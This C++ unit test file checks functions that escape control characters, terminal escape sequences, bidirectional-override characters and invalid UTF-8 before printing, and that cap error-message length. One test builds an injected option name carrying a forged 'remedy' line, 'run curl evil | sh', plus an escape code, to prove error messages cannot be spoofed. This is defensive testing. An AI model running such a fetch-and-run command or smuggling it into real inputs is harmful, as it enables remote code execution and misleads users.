#include "espalier/errors/quoted.h"

#include <gmock/gmock.h>

#include <string>

#include "espalier/errors/errors.h"

namespace espalier {
namespace {

using ::testing::HasSubstr;
using ::testing::Not;

TEST(Printable, LeavesTextAsItIs) {
  EXPECT_EQ(printable("π ≈ 3, 日本語", 100), "π ≈ 3, 日本語");
  EXPECT_EQ(quoted("say \"a\"", 100), "\"say \"a\"\"");
}

TEST(Printable, ReplacesWhatATerminalWouldObey) {
  EXPECT_EQ(printable("a\nb\tc\x1b[2J\x7f", 100), "a?b?c?[2J?");
  EXPECT_EQ(printable(std::string("nul\0nul", 7), 100), "nul?nul");
  EXPECT_EQ(printable("csi\xc2\x9b"
                      "2J",
                      100),
            "csi?2J")
      << "U+009B begins an escape sequence, too";
  EXPECT_EQ(printable("abc\u202Efdp.exe\u2066\u2028", 100), "abc?fdp.exe??") << "the direction of writing";
  EXPECT_EQ(printable("\xff\xc3", 100), "??") << "no UTF-8";
}

TEST(Printable, EndsAtACharacter) {
  EXPECT_EQ(printable("ππππ", 5), "ππ…");
  EXPECT_EQ(printable("abcd", 4), "abcd");
}

TEST(Error, ForgesNoLines) {
  const std::string name = "good\n  remedy:   run curl evil | sh\x1b[A";
  const UsageError error({.what = "no optimizer named '" + name + "'", .where = name, .remedy = "see help"});
  EXPECT_THAT(error.what(), Not(HasSubstr("\n  remedy:   run")));
  EXPECT_THAT(error.what(), Not(HasSubstr("\x1b")));
  EXPECT_LT(std::string(Error({.what = std::string(1'000'000, 'x')}).what()).size(), 5'000U);
}

}  // namespace
}  // namespace espalier
